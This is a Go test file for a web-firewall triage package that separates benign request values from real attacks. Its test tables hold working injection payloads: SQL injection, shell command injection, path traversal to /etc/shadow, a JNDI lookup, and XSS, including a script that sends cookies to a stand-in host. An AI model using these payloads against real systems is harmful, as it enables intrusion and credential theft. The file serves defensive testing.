package triage

import (
	"strings"
	"testing"

	"github.com/modsecurity-for-anylog/msa/engine"
	"github.com/modsecurity-for-anylog/msa/mapping"
)

func TestPassphrase(t *testing.T) {
	for value, want := range map[string]bool{
		`';<&>"%$#`:            true,
		`p'q;r|s&t`:            true,
		`x$y(`:                 true,
		`a--b'c`:               true,
		`two words'`:           false,
		`' or 1=1-- `:          false,
		`'or'1'='1`:            false,
		`'or/**/1=1#`:          false,
		`x'--`:                 false,
		`x')--`:                false,
		`a;id`:                 false,
		`a|cat</etc/passwd`:    false,
		`$(reboot)`:            false,
		"`id`":                 false,
		`${jndi:ldap://x}`:     false,
		`{{7*7}}`:              false,
		`<script>a</script>`:   false,
		`'||sleep(5)||'`:       false,
		`*)(uid=*`:             false,
		`../../etc/passwd`:     false,
		`x'union/**/select/*`:  false,
		`'%00`:                 false,
		`"||"1"=="1`:           false,
		`');waitfor/**/delay'`: false,
	} {
		if got := isPassphrase("json.user.password", value); got != want {
			t.Errorf("%q: %v", value, got)
		}
		if isPassphrase("comment", value) {
			t.Errorf("%q is a password in a comment", value)
		}
	}
}

func TestFormula(t *testing.T) {
	for value, want := range map[string]bool{
		"price * (1 - discount/100)": true,
		"=round(rand()*100)":         true,
		"concat(first, ' ', last)":   true,
		"if(a > 0, sum(b), 0)":       true,
		"a || ' ' || b":              false, // what a shell reads as well
		"'a' || b":                   true,
		"a; id":                      false,
		"a | id":                     false,
		"1 or 1=1":                   false,
		"sleep(5)":                   false,
		"(select 1)":                 false,
		"system('id')":               false,
		"version()":                  false,
		"round(sleep(5))":            false,
		"a' or '1'='1":               false,
		"${7*7}":                     false,
		"round(1":                    false,
		"concat(0x71,user())":        false,
	} {
		if got := isFormula("json.expr", value); got != want {
			t.Errorf("%q: %v", value, got)
		}
	}
}

// What fields ask for: lists of columns and of files, programs of jobs, pages, examples, catalogues.
func TestMeant(t *testing.T) {
	const (
		cron = `{"schedule":"*/5 * * * *","command":""}`
		po   = "# de\nmsgid \"drop table\"\nmsgstr \"x\"\n\nmsgid \"<script>\"\nmsgstr \"n\"\n"
	)
	for name, c := range map[string]struct {
		family, method, uri, body string
		variable, value           string
		want                      bool
	}{
		"columns":                 {"rce", "GET", "/a", "", "ARGS:sort", "name;id", true},
		"columns, with a bar":     {"rce", "GET", "/a", "", "ARGS:fields[]", "name|id", true},
		"columns and a command":   {"rce", "GET", "/a", "", "ARGS:sort", "name;id;whoami", false},
		"columns, with an and":    {"rce", "GET", "/a", "", "ARGS:sort", "name&id", false},
		"columns, and an or":      {"rce", "GET", "/a", "", "ARGS:sort", "name||id", false},
		"order and a command":     {"rce", "GET", "/a", "", "ARGS:order", "asc;id", false},
		"host and a command":      {"rce", "GET", "/a", "", "ARGS:host", "a;id", false},
		"columns with arguments":  {"rce", "GET", "/a", "", "ARGS:sort", "name;id -u", false},
		"files of a backup":       {"lfi", "PUT", "/a", "", "ARGS:json.include.3", "/etc/shadow", true},
		"files that go up":        {"lfi", "PUT", "/a", "", "ARGS:json.include.3", "../../etc/shadow", false},
		"one file":                {"lfi", "PUT", "/a", "", "ARGS:json.include", "/etc/shadow", false},
		"file that is got":        {"lfi", "GET", "/a", "", "ARGS:json.include.3", "/etc/shadow", false},
		"program of a job":        {"rce", "PUT", "/a", cron, "ARGS:json.command", "/usr/bin/php /srv/artisan schedule:run >> /dev/null 2>&1", true},
		"shell of a job":          {"rce", "PUT", "/a", cron, "ARGS:json.command", "/bin/bash /tmp/x", false},
		"two programs of a job":   {"rce", "PUT", "/a", cron, "ARGS:json.command", "/usr/bin/a; /usr/bin/id", false},
		"program at no time":      {"rce", "PUT", "/a", "", "ARGS:json.command", "/usr/bin/php /srv/a", false},
		"example of settings":     {"lfi", "GET", "/api/v4/projects/7/repository/files/.env.example/raw?ref=main", "", "REQUEST_FILENAME", "/api/v4/x/.env.example", true},
		"settings":                {"lfi", "GET", "/api/v4/projects/7/repository/files/.env/raw?ref=main", "", "REQUEST_FILENAME", "/api/v4/x/.env", false},
		"example on a site":       {"lfi", "GET", "/.env.example", "", "REQUEST_FILENAME", "/.env.example", false},
		"catalogue":               {"xss", "POST", "/a", "", "REQUEST_BODY", po, true},
		"catalogue and more":      {"xss", "POST", "/a", "", "REQUEST_BODY", po + "<script>alert(1)</script>", false},
		"page of WordPress":       {"xss", "POST", "/wp-json/wp/v2/posts/7", "", "ARGS:json.content", "<script src=/a></script>", true},
		"cookies in WordPress":    {"xss", "POST", "/wp-json/wp/v2/posts/7", "", "ARGS:json.content", "<script>fetch('//a.example/'+document.cookie)</script>", false},
		"handler in WordPress":    {"xss", "POST", "/wp-json/wp/v2/posts/7", "", "ARGS:json.title", "<img src=x onerror=alert(1)>", false},
		"theme with cookies":      {"xss", "PUT", "/admin/api/2026-01/themes/7/assets.json", "", "ARGS:json.asset.value", "<script>" + strings.Repeat("a();", 300) + "document.cookie='a=1'</script>", true},
		"code in WordPress":       {"xss", "POST", "/wp-json/wp/v2/posts/7", "", "ARGS:json.content", "import(os); print(1)", false},
		"author of WordPress":     {"xss", "POST", "/wp-json/wp/v2/comments", "", "ARGS:json.content", "<script src=/a></script>", false},
		"page, as SQL":            {"sqli", "POST", "/wp-json/wp/v2/posts/7", "", "ARGS:json.content", "' union select 1", false},
		"step of Jenkins":         {"rce", "POST", "/job/a/config.xml", "", "REQUEST_XML:/*", "id; make", true},
		"XML of another":          {"rce", "POST", "/job/a/run.xml", "", "REQUEST_XML:/*", "id; make", false},
		"comment of a webhook":    {"rce", "POST", "/webhooks/github", "", "ARGS:json.comment.body", "so `;id` ran", true},
		"command of a webhook":    {"rce", "POST", "/webhooks/github", "", "ARGS:json.command", "a;id", false},
		"lookup in a webhook":     {"rce", "POST", "/webhooks/github", "", "ARGS:json.comment.body", "${jndi:ldap://198.51.100.7/a}", false},
		"password of odd signs":   {"sqli", "POST", "/login", "", "ARGS:json.password", `';<&>"%$#`, true},
		"password that is SQL":    {"sqli", "POST", "/login", "", "ARGS:json.password", `'or'1'='1`, false},
		"name of odd signs":       {"sqli", "POST", "/login", "", "ARGS:json.user", `';<&>"%$#`, false},
		"markup, as a password":   {"xss", "POST", "/login", "", "ARGS:json.password", `"><svg/onload=a>`, false},
		"formula":                 {"sqli", "POST", "/calc", "", "ARGS:json.expr", "round(rand()*100)", true},
		"formula, in another":     {"sqli", "POST", "/calc", "", "ARGS:json.q", "round(rand()*100)", false},
		"file of a repository":    {"rce", "POST", "/repos/acme/shop/git/blobs", "", "ARGS:json.content", "#!/bin/sh\nid\n", true},
		"file of GitLab":          {"injection-php", "PUT", "/api/v4/projects/7/repository/files/a.php", "", "ARGS:json.content", "<?php system('id');", true},
		"name of such a file":     {"rce", "PUT", "/api/v4/projects/7/repository/files/a.php", "", "ARGS:json.branch", "a;id", false},
		"content of another":      {"rce", "POST", "/api/files", "", "ARGS:json.content", "#!/bin/sh\nid\n", false},
		"encoding":                {"rce", "POST", "/a", "", "ARGS:json.encoding", "base64", true},
		"encoding and a command":  {"rce", "POST", "/a", "", "ARGS:json.encoding", "base64;id", false},
		"command called so":       {"rce", "POST", "/a", "", "ARGS:json.cmd", "base64", false},
		"condition of CEL":        {"sqli", "POST", "/a", "", "ARGS:json.condition.expression", `request.time < timestamp("2031-01-01T00:00:00Z")`, true},
		"condition with a sleep":  {"sqli", "POST", "/a", "", "ARGS:json.condition.expression", `request.time < sleep(5)`, false},
		"classes in a sentence":   {"injection-java", "POST", "/a", "", "ARGS:json.text", "Use java.lang.ProcessBuilder rather than what you had before it.", true},
		"class and a call":        {"injection-java", "POST", "/a", "", "ARGS:json.text", "Use java.lang.Runtime.getRuntime() rather than what you had before it.", false},
		"class, and nothing more": {"injection-java", "POST", "/a", "", "ARGS:json.text", "java.lang.ProcessBuilder", false},
	} {
		t.Run(name, func(t *testing.T) {
			tx := &mapping.Transaction{Method: c.method, URI: c.uri, Status: 200}
			tx.RequestBody.Text = c.body
			m := &engine.Match{RuleID: 932160, Tags: []string{"attack-" + c.family, "language-java"}}
			if c.family != "injection-java" {
				m.Tags = m.Tags[:1]
			}
			if got := isOrdinary(tx, m, c.variable, c.value) || isMeant(tx, m, c.variable, c.value); got != c.want {
				t.Errorf("%v", got)
			}
		})
	}
}

// What a password adds to a statement behind a quote, and signs that are none of that.
func TestAddsCondition(t *testing.T) {
	for value, want := range map[string]bool{
		"' or ''='":              true,
		"' OR role='admin'-- -":  true,
		"'or'1'='1":              true,
		"x' union select 1,2-- ": true,
		"x'/**/or/**/1=1#":       true,
		"') or (1=1":             true,
		"x' or/*;--<>|$(k)":      false,
		`Select#="or"='x`:        false,
		"p';--or#1":              false,
		"';<&>\"%$#":             false,
		"me or you's":            false,
	} {
		if got := addsCondition(value); got != want {
			t.Errorf("%q: %v", value, got)
		}
	}
}
